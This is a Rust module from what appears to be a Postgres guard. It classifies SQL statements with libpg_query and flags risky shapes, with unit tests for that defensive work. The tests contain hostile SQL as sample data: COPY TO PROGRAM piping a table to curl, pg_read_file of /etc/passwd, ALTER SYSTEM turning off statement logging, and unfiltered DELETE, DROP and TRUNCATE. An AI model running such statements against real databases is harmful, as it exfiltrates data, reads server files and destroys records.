//! Statement classification with the real Postgres parser (libpg_query,
//! through the `pg_query` crate): a query string is split into its
//! statements, and each gets a class, the shapes rules block by name, and
//! the tables it touches. What the parser refuses is reported as such;
//! the policy decides what that means (fail closed under blocking rules).
use std::{
    collections::{HashMap, VecDeque},
    sync::{Arc, Mutex, OnceLock},
};

use pg_query::NodeEnum;

use super::nested;
use crate::record::statement::{SearchPathChange, Shape, SqlFacts, StatementClass};

/// One statement of a query string: its text and what it is.
#[derive(Debug, Clone)]
pub struct Classified {
    pub text: String,
    pub facts: SqlFacts,
}

/// Splits a simple-protocol query string into statements (as the server
/// will run them) and classifies each. One parse for the common case of
/// one statement; a string the parser refuses stays whole, with the error.
pub fn split(sql: &str) -> Vec<Classified> {
    if let Some(hit) = exact().get(sql) {
        return hit.to_vec();
    }
    let key = shape_key(sql);
    if let Some(facts) = key.as_deref().and_then(|k| shapes().get(k)) {
        return vec![Classified {
            text: sql.to_owned(),
            facts,
        }];
    }
    let (out, constants_irrelevant) = split_uncached(sql);
    exact().put(sql, out.clone().into());
    if let (Some(k), [one], true) = (key, &out[..], constants_irrelevant) {
        shapes().put(&k, one.facts.clone());
    }
    out
}

/// Facts about one statement (a query string holding several is judged
/// by its most dangerous: every shape and table, the first class).
pub fn classify(sql: &str) -> SqlFacts {
    if let Some(hit) = exact().get(sql) {
        if let [one] = &hit[..] {
            return one.facts.clone();
        }
    }
    let key = shape_key(sql);
    if let Some(facts) = key.as_deref().and_then(|k| shapes().get(k)) {
        return facts;
    }
    match pg_query::parse(sql, pg_query::ParserOptions::DEFAULT) {
        Ok(p) => {
            let (facts, constants_matter) = facts_of(sql, &p);
            if let (Some(k), true) = (key, !constants_matter && constants_irrelevant(&p)) {
                shapes().put(&k, facts.clone());
            }
            facts
        }
        Err(e) => SqlFacts {
            parse_error: Some(e.to_string()),
            ..SqlFacts::default()
        },
    }
}

/// Statements repeat (BEGIN, COMMIT, an ORM's queries): their facts are
/// kept for the next time, keyed by the exact text, bounded.
const CACHE_ENTRIES: usize = 2048;
const CACHE_MAX_SQL: usize = 4096;

/// A bounded map, oldest entry out first.
struct Cache<V> {
    map: HashMap<Arc<str>, V>,
    order: VecDeque<Arc<str>>,
}

struct Shared<V>(Mutex<Cache<V>>);

impl<V: Clone> Shared<V> {
    fn new() -> Self {
        Shared(Mutex::new(Cache {
            map: HashMap::new(),
            order: VecDeque::new(),
        }))
    }

    fn get(&self, key: &str) -> Option<V> {
        if key.len() > CACHE_MAX_SQL {
            return None;
        }
        self.0
            .lock()
            .unwrap_or_else(|e| e.into_inner())
            .map
            .get(key)
            .cloned()
    }

    fn put(&self, key: &str, v: V) {
        if key.len() > CACHE_MAX_SQL {
            return;
        }
        let mut c = self.0.lock().unwrap_or_else(|e| e.into_inner());
        if c.map.len() >= CACHE_ENTRIES {
            if let Some(old) = c.order.pop_front() {
                c.map.remove(&old);
            }
        }
        let key: Arc<str> = key.into();
        if c.map.insert(key.clone(), v).is_none() {
            c.order.push_back(key);
        }
    }
}

/// Facts by exact query text.
fn exact() -> &'static Shared<Arc<[Classified]>> {
    static CACHE: OnceLock<Shared<Arc<[Classified]>>> = OnceLock::new();
    CACHE.get_or_init(Shared::new)
}

/// Facts by statement shape: the text with each constant replaced by its
/// kind (`shape_key`). Applications and drivers send the same statement
/// with different literals (`WHERE aid = 81723`) far more often than the
/// same text twice; parsing each costs more than everything else the node
/// does per statement. Only statements whose facts cannot depend on a
/// constant's value go in (see `constants_irrelevant`).
fn shapes() -> &'static Shared<SqlFacts> {
    static CACHE: OnceLock<Shared<SqlFacts>> = OnceLock::new();
    CACHE.get_or_init(Shared::new)
}

/// The statement with its constants (numbers, strings, bit strings)
/// replaced by a marker of their kind, cut into tokens by Postgres's own
/// scanner (libpg_query), so a quote or comment is read exactly as the
/// server reads it. Two texts with one key have the same tokens but for
/// constant values, so the grammar takes the same path through both: the
/// same statement type, tables, clauses. `None` for anything but one
/// statement (a `;` only at the end), or what the scanner refuses.
fn shape_key(sql: &str) -> Option<String> {
    use pg_query::protobuf::Token;
    // No tokens at all would hand the crate a null array (it builds a
    // slice from it): whitespace has no shape anyway.
    if sql.len() > CACHE_MAX_SQL || sql.trim().is_empty() {
        return None;
    }
    let tokens = pg_query::scan_tokens(sql).ok()?;
    let mut key = String::with_capacity(sql.len());
    let mut at = 0;
    let last = tokens.len().checked_sub(1)?;
    for (i, t) in tokens.iter().enumerate() {
        let start = usize::try_from(t.start).ok()?;
        let end = usize::try_from(t.end).ok()?;
        let marker = match Token::try_from(t.token).ok()? {
            Token::Ascii59 if i != last => return None,
            Token::Iconst => "\0i",
            Token::Fconst => "\0f",
            Token::Sconst => "\0s",
            Token::Usconst => "\0u",
            Token::Bconst => "\0b",
            Token::Xconst => "\0x",
            _ => continue,
        };
        key.push_str(sql.get(at..start)?);
        key.push_str(marker);
        at = end;
    }
    key.push_str(sql.get(at..)?);
    Some(key)
}

/// Whether the facts of this parse hold for every statement of its shape:
/// one plain query or DML statement, whose class, shapes and tables come
/// from its structure alone. Utility statements are out: their options
/// take constants that matter (`EXPLAIN (ANALYZE 1)` runs what
/// `EXPLAIN (ANALYZE 0)` does not).
fn constants_irrelevant(parsed: &pg_query::ParseResult) -> bool {
    match &parsed.protobuf.stmts[..] {
        [one] => matches!(
            one.stmt.as_ref().and_then(|n| n.node.as_ref()),
            Some(
                NodeEnum::SelectStmt(_)
                    | NodeEnum::InsertStmt(_)
                    | NodeEnum::UpdateStmt(_)
                    | NodeEnum::DeleteStmt(_)
                    | NodeEnum::MergeStmt(_)
            )
        ),
        _ => false,
    }
}

/// Parses a query string: its statements, and whether the facts of a
/// single one may be kept for its shape.
fn split_uncached(sql: &str) -> (Vec<Classified>, bool) {
    let parsed = match pg_query::parse(sql, pg_query::ParserOptions::DEFAULT) {
        Ok(p) => p,
        Err(e) => {
            return (
                vec![Classified {
                    text: sql.to_owned(),
                    facts: SqlFacts {
                        parse_error: Some(e.to_string()),
                        ..SqlFacts::default()
                    },
                }],
                false,
            )
        }
    };
    let mut constants_matter = false;
    let out = match parsed.protobuf.stmts.len() {
        0 => Vec::new(),
        1 => {
            let (facts, matter) = facts_of(sql, &parsed);
            constants_matter = matter;
            vec![Classified {
                text: sql.to_owned(),
                facts,
            }]
        }
        _ => parsed
            .protobuf
            .stmts
            .iter()
            .map(|raw| {
                // Locations are byte offsets; a length of 0 means "to the end".
                let start = usize::try_from(raw.stmt_location)
                    .unwrap_or(0)
                    .min(sql.len());
                let end = match usize::try_from(raw.stmt_len).unwrap_or(0) {
                    0 => sql.len(),
                    n => (start + n).min(sql.len()),
                };
                let text = sql.get(start..end).unwrap_or(sql).trim();
                Classified {
                    text: text.to_owned(),
                    facts: classify(text),
                }
            })
            .collect(),
    };
    (out, !constants_matter && constants_irrelevant(&parsed))
}

/// The facts of a parsed statement, and whether its constants decide
/// what runs (SQL handed to a function as a string).
fn facts_of(sql: &str, parsed: &pg_query::ParseResult) -> (SqlFacts, bool) {
    let mut facts = SqlFacts::default();
    for raw in &parsed.protobuf.stmts {
        let Some(node) = raw.stmt.as_ref().and_then(|n| n.node.as_ref()) else {
            continue;
        };
        let (class, shapes) = describe(node);
        facts.class.get_or_insert(class);
        for s in shapes {
            if !facts.shapes.contains(&s) {
                facts.shapes.push(s);
            }
        }
    }
    // A data-modifying statement inside another (`WITH d AS (DELETE FROM
    // users RETURNING *) SELECT ...`) runs as surely as a top-level one:
    // it makes the whole a write and brings its shapes.
    for (node, depth, _, _) in parsed.protobuf.nodes() {
        let nested = match node {
            _ if depth == 0 => continue,
            pg_query::NodeRef::DeleteStmt(d) => NodeEnum::DeleteStmt(Box::new(d.clone())),
            pg_query::NodeRef::UpdateStmt(u) => NodeEnum::UpdateStmt(Box::new(u.clone())),
            pg_query::NodeRef::InsertStmt(_) | pg_query::NodeRef::MergeStmt(_) => {
                NodeEnum::InsertStmt(Box::default())
            }
            _ => continue,
        };
        let (class, shapes) = describe(&nested);
        if facts.class == Some(StatementClass::Read) {
            facts.class = Some(class);
        }
        for s in shapes {
            if !facts.shapes.contains(&s) {
                facts.shapes.push(s);
            }
        }
    }
    let mut tables: Vec<String> = parsed
        .tables()
        .into_iter()
        .map(|t| t.to_ascii_lowercase())
        .collect();
    // What runs inside: bodies, SQL given to functions, every relation
    // the whole tree names (the crate's walk skips some node types).
    let tree = serde_json::to_value(&parsed.protobuf).unwrap_or_default();
    let inner = nested::find(sql, &tree);
    tables.extend(inner.tables);
    facts.tables = tables;
    for s in inner.shapes {
        if !facts.shapes.contains(&s) {
            facts.shapes.push(s);
        }
    }
    facts.dynamic = inner.dynamic;
    facts.parse_error = inner.parse_error;
    facts.search_path = inner.search_path;
    for text in &inner.sql {
        match nested::deeper(|| split(text)) {
            Some(parts) => parts.into_iter().for_each(|p| absorb(&mut facts, p.facts)),
            None => {
                facts
                    .dynamic
                    .get_or_insert_with(|| "SQL nested too deep to follow".into());
            }
        }
    }
    facts.tables.sort();
    facts.tables.dedup();
    (facts, inner.constants_matter)
}

/// Adds what a statement run inside another does to the outer one's
/// facts: a write inside a read makes it a write; shapes, tables, errors
/// and path changes add up.
fn absorb(facts: &mut SqlFacts, inner: SqlFacts) {
    if facts.class == Some(StatementClass::Read)
        && inner.class.is_some_and(|c| c != StatementClass::Read)
    {
        facts.class = inner.class;
    }
    for s in inner.shapes {
        if !facts.shapes.contains(&s) {
            facts.shapes.push(s);
        }
    }
    facts.tables.extend(inner.tables);
    if facts.parse_error.is_none() {
        facts.parse_error = inner.parse_error;
    }
    if facts.dynamic.is_none() {
        facts.dynamic = inner.dynamic;
    }
    facts.search_path = match (facts.search_path.take(), inner.search_path) {
        (Some(SearchPathChange::Unknown), _) | (_, Some(SearchPathChange::Unknown)) => {
            Some(SearchPathChange::Unknown)
        }
        (Some(SearchPathChange::Set(mut a)), Some(SearchPathChange::Set(b))) => {
            a.extend(b);
            Some(SearchPathChange::Set(a))
        }
        (a, b) => a.or(b),
    };
}

fn describe(node: &NodeEnum) -> (StatementClass, Vec<Shape>) {
    use StatementClass as C;
    match node {
        NodeEnum::SelectStmt(s) => {
            if s.into_clause.is_some() {
                (C::Write, vec![])
            } else {
                (C::Read, vec![])
            }
        }
        NodeEnum::InsertStmt(_) | NodeEnum::MergeStmt(_) => (C::Write, vec![]),
        NodeEnum::UpdateStmt(u) => (
            C::Write,
            if no_filter(u.where_clause.as_deref()) {
                vec![Shape::UpdateWithoutWhere]
            } else {
                vec![]
            },
        ),
        NodeEnum::DeleteStmt(d) => (
            C::Write,
            if no_filter(d.where_clause.as_deref()) {
                vec![Shape::DeleteWithoutWhere]
            } else {
                vec![]
            },
        ),
        NodeEnum::CopyStmt(c) => (
            C::Copy,
            if c.is_program {
                vec![Shape::CopyProgram]
            } else {
                vec![]
            },
        ),
        // What runs is the inner statement: judge it (EXPLAIN ANALYZE of
        // a DELETE deletes; PREPARE ... AS DELETE is run later by EXECUTE).
        NodeEnum::ExplainStmt(e) => inner(e.query.as_deref(), C::Read),
        NodeEnum::PrepareStmt(p) => inner(p.query.as_deref(), C::Session),
        NodeEnum::CreateTableAsStmt(_) => (C::Ddl, vec![]),
        NodeEnum::DropStmt(_) | NodeEnum::DropdbStmt(_) | NodeEnum::DropTableSpaceStmt(_) => {
            (C::Ddl, vec![Shape::Drop])
        }
        NodeEnum::DropRoleStmt(_) | NodeEnum::DropOwnedStmt(_) => (C::Dcl, vec![Shape::Drop]),
        NodeEnum::TruncateStmt(_) => (C::Ddl, vec![Shape::Truncate]),
        NodeEnum::AlterSystemStmt(_) => (C::Admin, vec![Shape::AlterSystem]),
        NodeEnum::GrantStmt(_)
        | NodeEnum::GrantRoleStmt(_)
        | NodeEnum::CreateRoleStmt(_)
        | NodeEnum::AlterRoleStmt(_)
        | NodeEnum::AlterRoleSetStmt(_)
        | NodeEnum::AlterDefaultPrivilegesStmt(_)
        | NodeEnum::ReassignOwnedStmt(_)
        | NodeEnum::CreateUserMappingStmt(_)
        | NodeEnum::AlterUserMappingStmt(_)
        | NodeEnum::DropUserMappingStmt(_) => (C::Dcl, vec![]),
        NodeEnum::TransactionStmt(_) => (C::Transaction, vec![]),
        NodeEnum::VariableSetStmt(_)
        | NodeEnum::VariableShowStmt(_)
        | NodeEnum::DiscardStmt(_)
        | NodeEnum::ListenStmt(_)
        | NodeEnum::UnlistenStmt(_)
        | NodeEnum::NotifyStmt(_)
        | NodeEnum::DeallocateStmt(_)
        | NodeEnum::ExecuteStmt(_)
        | NodeEnum::DeclareCursorStmt(_)
        | NodeEnum::FetchStmt(_)
        | NodeEnum::ClosePortalStmt(_)
        | NodeEnum::LockStmt(_)
        | NodeEnum::ConstraintsSetStmt(_) => (C::Session, vec![]),
        NodeEnum::VacuumStmt(_)
        | NodeEnum::CheckPointStmt(_)
        | NodeEnum::LoadStmt(_)
        | NodeEnum::ClusterStmt(_)
        | NodeEnum::ReindexStmt(_)
        | NodeEnum::RefreshMatViewStmt(_) => (C::Admin, vec![]),
        NodeEnum::CallStmt(_) | NodeEnum::DoStmt(_) => (C::Procedure, vec![]),
        n if is_ddl(n) => (C::Ddl, vec![]),
        _ => (C::Other, vec![]),
    }
}

/// No WHERE, or one every row passes (`WHERE true`, `1 = 1`).
fn no_filter(w: Option<&pg_query::protobuf::Node>) -> bool {
    w.is_none_or(|w| serde_json::to_value(w).is_ok_and(|v| nested::trivially_true(&v)))
}

fn inner(
    query: Option<&pg_query::protobuf::Node>,
    default: StatementClass,
) -> (StatementClass, Vec<Shape>) {
    match query.and_then(|n| n.node.as_ref()) {
        Some(n) => {
            let (class, shapes) = describe(n);
            (
                if class == StatementClass::Read {
                    default
                } else {
                    class
                },
                shapes,
            )
        }
        None => (default, vec![]),
    }
}

/// CREATE / ALTER / COMMENT / RENAME and friends.
fn is_ddl(n: &NodeEnum) -> bool {
    matches!(
        n,
        NodeEnum::CreateStmt(_)
            | NodeEnum::CreateSchemaStmt(_)
            | NodeEnum::AlterTableStmt(_)
            | NodeEnum::IndexStmt(_)
            | NodeEnum::ViewStmt(_)
            | NodeEnum::CreateFunctionStmt(_)
            | NodeEnum::AlterFunctionStmt(_)
            | NodeEnum::CreateSeqStmt(_)
            | NodeEnum::AlterSeqStmt(_)
            | NodeEnum::CreateExtensionStmt(_)
            | NodeEnum::AlterExtensionStmt(_)
            | NodeEnum::CreatedbStmt(_)
            | NodeEnum::AlterDatabaseStmt(_)
            | NodeEnum::AlterDatabaseSetStmt(_)
            | NodeEnum::RenameStmt(_)
            | NodeEnum::CommentStmt(_)
            | NodeEnum::RuleStmt(_)
            | NodeEnum::CreateTrigStmt(_)
            | NodeEnum::CreateEventTrigStmt(_)
            | NodeEnum::CreateEnumStmt(_)
            | NodeEnum::CompositeTypeStmt(_)
            | NodeEnum::DefineStmt(_)
            | NodeEnum::AlterObjectSchemaStmt(_)
            | NodeEnum::AlterOwnerStmt(_)
            | NodeEnum::CreatePolicyStmt(_)
            | NodeEnum::AlterPolicyStmt(_)
            | NodeEnum::CreateTableSpaceStmt(_)
            | NodeEnum::CreateForeignTableStmt(_)
            | NodeEnum::CreatePublicationStmt(_)
            | NodeEnum::CreateSubscriptionStmt(_)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classes_shapes_and_tables_from_the_parse_tree() {
        let f = classify("SELECT email FROM public.users u JOIN orders o ON o.uid = u.id");
        assert_eq!(f.class, Some(StatementClass::Read));
        assert_eq!(f.tables, vec!["orders", "public.users"]);

        let f = classify("delete from users");
        assert_eq!(f.class, Some(StatementClass::Write));
        assert_eq!(f.shapes, vec![Shape::DeleteWithoutWhere]);
        assert!(classify("DELETE FROM users WHERE id = $1")
            .shapes
            .is_empty());
        assert_eq!(
            classify("UPDATE accounts SET balance = 0").shapes,
            vec![Shape::UpdateWithoutWhere]
        );
        // A comment or a string that looks like WHERE does not fool it.
        assert_eq!(
            classify("DELETE FROM users -- WHERE id = 1").shapes,
            vec![Shape::DeleteWithoutWhere]
        );
        assert_eq!(classify("DROP TABLE users").shapes, vec![Shape::Drop]);
        assert_eq!(classify("truncate audit_log").shapes, vec![Shape::Truncate]);
        assert_eq!(
            classify("COPY users TO PROGRAM 'curl -d @- http://x'").shapes,
            vec![Shape::CopyProgram]
        );
        assert_eq!(
            classify("ALTER SYSTEM SET log_statement = 'none'").shapes,
            vec![Shape::AlterSystem]
        );
        assert_eq!(
            classify("GRANT ALL ON users TO public").class,
            Some(StatementClass::Dcl)
        );
        assert_eq!(classify("BEGIN").class, Some(StatementClass::Transaction));
        assert_eq!(
            classify("CREATE TABLE t (a int)").class,
            Some(StatementClass::Ddl)
        );
        let f = classify("EXPLAIN ANALYZE DELETE FROM users");
        assert_eq!(
            (f.class, f.shapes),
            (Some(StatementClass::Write), vec![Shape::DeleteWithoutWhere])
        );
        let f = classify("PREPARE p AS DELETE FROM users");
        assert_eq!(f.shapes, vec![Shape::DeleteWithoutWhere]);

        // Data-modifying statements inside a WITH run too.
        let f = classify("WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d");
        assert_eq!(
            (f.class, f.shapes),
            (Some(StatementClass::Write), vec![Shape::DeleteWithoutWhere])
        );
        let f = classify(
            "WITH a AS (SELECT 1), b AS (UPDATE accounts SET balance = 0 RETURNING 1) \
             INSERT INTO log SELECT * FROM b",
        );
        assert_eq!(f.shapes, vec![Shape::UpdateWithoutWhere]);
        // A CTE's name counts as a table: a real table of that name may be
        // read outside the CTE's scope, and rules err on the side of seeing.
        assert_eq!(f.tables, vec!["accounts", "b", "log"]);

        let f = classify("SELEC * FRM users");
        assert!(f.parse_error.is_some());
        assert_eq!(f.class, None);
    }

    #[test]
    fn statements_differing_only_in_constants_share_facts() {
        // One shape, whatever the literals; the scanner reads quotes and
        // comments as the server does.
        let a = shape_key("SELECT abalance FROM pgbench_accounts WHERE aid = 81723;");
        let b = shape_key("SELECT abalance FROM pgbench_accounts WHERE aid = 5;");
        assert!(a.is_some());
        assert_eq!(a, b);
        assert_eq!(
            shape_key("select * from t where s = 'it''s' and x = 1.5e3"),
            shape_key("select * from t where s = 'x' and x = 2.0")
        );
        // Not the same shape: another table, another kind of constant, a
        // keyword where a literal was.
        assert_ne!(
            shape_key("SELECT * FROM a WHERE id = 1"),
            shape_key("SELECT * FROM b WHERE id = 1")
        );
        assert_ne!(
            shape_key("SELECT * FROM a WHERE id = 1"),
            shape_key("SELECT * FROM a WHERE id = '1'")
        );
        assert_ne!(
            shape_key("DELETE FROM a WHERE 1 = 1"),
            shape_key("DELETE FROM a WHERE true")
        );
        // A string cannot hide statements from the key: the `;` inside it
        // is not a token, one outside it is.
        assert!(shape_key("SELECT ';DROP TABLE x'").is_some());
        assert_eq!(shape_key("SELECT 1; DROP TABLE x"), None);
        // Unterminated quote: the scanner refuses, no key.
        assert_eq!(shape_key("SELECT 'abc"), None);

        // A shape seen once answers for the next literal, with its facts.
        let first = split("UPDATE shape_t SET v = 1 WHERE id = 7");
        let next = split("UPDATE shape_t SET v = 99 WHERE id = 12345");
        assert_eq!(next[0].text, "UPDATE shape_t SET v = 99 WHERE id = 12345");
        assert_eq!(next[0].facts, first[0].facts);
        assert_eq!(next[0].facts.tables, vec!["shape_t"]);
        // Utility statements are never answered by shape: their constants
        // can decide what runs.
        let off = classify("EXPLAIN (ANALYZE 0) DELETE FROM shape_u");
        let on = classify("EXPLAIN (ANALYZE 1) DELETE FROM shape_u");
        assert_eq!(off.shapes, vec![Shape::DeleteWithoutWhere]);
        assert_eq!(on.shapes, vec![Shape::DeleteWithoutWhere]);
        let _ = classify("SET statement_timeout = 5");
        assert!(shapes()
            .get(&shape_key("SET statement_timeout = 6").unwrap())
            .is_none());
    }

    #[test]
    fn what_runs_inside_a_statement_is_judged_with_it() {
        let shapes = |sql: &str| classify(sql).shapes;
        // A WHERE that does not look at the row is no WHERE.
        for sql in [
            "DELETE FROM t WHERE true",
            "DELETE FROM t WHERE 1=1",
            "UPDATE t SET a = 0 WHERE 'x' = 'x' OR id = 4",
            "DELETE FROM t WHERE id = id",
            "DELETE FROM t WHERE (id > 3 OR true) AND 2 > 1",
        ] {
            assert!(
                shapes(sql)
                    .iter()
                    .any(|s| matches!(s, Shape::DeleteWithoutWhere | Shape::UpdateWithoutWhere)),
                "{sql}"
            );
        }
        // An arm that does not read the row may be true for every row:
        // the whole is judged as no WHERE.
        assert_eq!(
            shapes("DELETE FROM t WHERE id = 3 OR current_user = 'me'"),
            vec![Shape::DeleteWithoutWhere]
        );
        assert!(shapes("DELETE FROM t WHERE id = 3 OR id = 4").is_empty());
        assert!(shapes("DELETE FROM t WHERE id > 3 AND true").is_empty());

        // DO blocks: statements, EXECUTE of constants, built strings.
        let f = classify("DO $x$ BEGIN EXECUTE 'TRUNCATE t'; END $x$");
        assert_eq!(f.shapes, vec![Shape::Truncate], "{f:?}");
        assert_eq!(f.class, Some(StatementClass::Procedure));
        let f = classify("DO $$ BEGIN EXECUTE 'TRUNC' || 'ATE t'; END $$");
        assert_eq!(f.shapes, vec![Shape::Truncate], "{f:?}");
        let f = classify("DO $$ BEGIN DELETE FROM t; PERFORM 1; END $$");
        assert_eq!(f.shapes, vec![Shape::DeleteWithoutWhere], "{f:?}");
        assert_eq!(f.tables, vec!["t"]);
        let f =
            classify("DO $$ DECLARE n text := 't'; BEGIN EXECUTE format('TRUNCATE %I', n); END $$");
        assert!(f.dynamic.is_some(), "{f:?}");
        let f = classify("DO $$ BEGIN PERFORM 1; END $$");
        assert!(
            f.dynamic.is_none() && f.shapes.is_empty() && f.parse_error.is_none(),
            "{f:?}"
        );
        assert!(classify("DO LANGUAGE plpython3u $$ import os $$")
            .dynamic
            .is_some());
        // A function created and called in one string.
        let parts = split(
            "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE t; END $$; SELECT f()",
        );
        assert_eq!(
            parts[0].facts.shapes,
            vec![Shape::Truncate],
            "{:?}",
            parts[0]
        );
        let f = classify("CREATE FUNCTION g() RETURNS void LANGUAGE sql AS 'DELETE FROM t'");
        assert_eq!(f.shapes, vec![Shape::DeleteWithoutWhere], "{f:?}");
        let f = classify(
            "CREATE FUNCTION g() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
        );
        assert_eq!(f.shapes, vec![Shape::DeleteWithoutWhere], "{f:?}");
        assert!(
            classify("CREATE FUNCTION h() RETURNS int LANGUAGE c AS 'x', 'y'")
                .dynamic
                .is_some()
        );

        // Functions that run SQL or read a table by name.
        let f = classify("SELECT query_to_xml('select * from payroll', true, true, '')");
        assert_eq!(f.tables, vec!["payroll"], "{f:?}");
        assert_eq!(f.dynamic, None);
        let f = classify("SELECT query_to_xml('select * from public.t2', true, true, '')");
        assert_eq!(f.tables, vec!["public.t2"], "{f:?}");
        let f = classify("SELECT table_to_xml('hr.Salaries', true, true, '')");
        assert_eq!(f.tables, vec!["hr.salaries"], "{f:?}");
        assert!(classify("SELECT query_to_xml(q, true, true, '') FROM qs")
            .dynamic
            .is_some());
        let f = classify("SELECT dblink_exec('dbname=x', 'DROP TABLE t')");
        assert_eq!(f.shapes, vec![Shape::Drop], "{f:?}");
        assert_eq!(
            classify("SELECT pg_read_file('/etc/passwd')").shapes,
            vec![Shape::ServerFiles]
        );
        // Hidden in node types the crate's table walk skips.
        let f = classify("SELECT ARRAY[(SELECT x FROM payroll)]");
        assert!(f.tables.contains(&"payroll".to_string()), "{f:?}");
        // The constants of such calls decide: never answered by shape.
        let _ = classify("SELECT query_to_xml('select 1', true, true, '')");
        let f = classify("SELECT query_to_xml('select * from secret', true, true, '')");
        assert_eq!(f.tables, vec!["secret"]);

        // The search path.
        assert_eq!(
            classify("SET search_path = hr, \"$user\"").search_path,
            Some(SearchPathChange::Set(vec!["hr".into(), "$user".into()]))
        );
        assert_eq!(
            classify("SELECT set_config('search_path', 'hr', false)").search_path,
            Some(SearchPathChange::Set(vec!["hr".into()]))
        );
        assert_eq!(
            classify("SELECT set_config(name, 'hr', false) FROM t").search_path,
            Some(SearchPathChange::Unknown)
        );
        assert_eq!(
            classify("RESET search_path").search_path,
            Some(SearchPathChange::Set(vec![]))
        );
    }

    #[test]
    fn a_query_string_is_split_per_statement() {
        let parts = split("select 1; DELETE FROM users; select ';' as x");
        assert_eq!(parts.len(), 3);
        assert_eq!(parts[1].text, "DELETE FROM users");
        assert_eq!(parts[1].facts.shapes, vec![Shape::DeleteWithoutWhere]);
        assert_eq!(parts[2].facts.class, Some(StatementClass::Read));
        assert_eq!(split("select 1").len(), 1);
        // A second time from the cache, the same.
        let again = split("select 1; DELETE FROM users; select ';' as x");
        assert_eq!(again[1].facts, parts[1].facts);
        assert_eq!(classify("select 1").class, Some(StatementClass::Read));
        assert!(split("").is_empty());
        assert!(split("select (")
            .first()
            .unwrap()
            .facts
            .parse_error
            .is_some());
    }
}
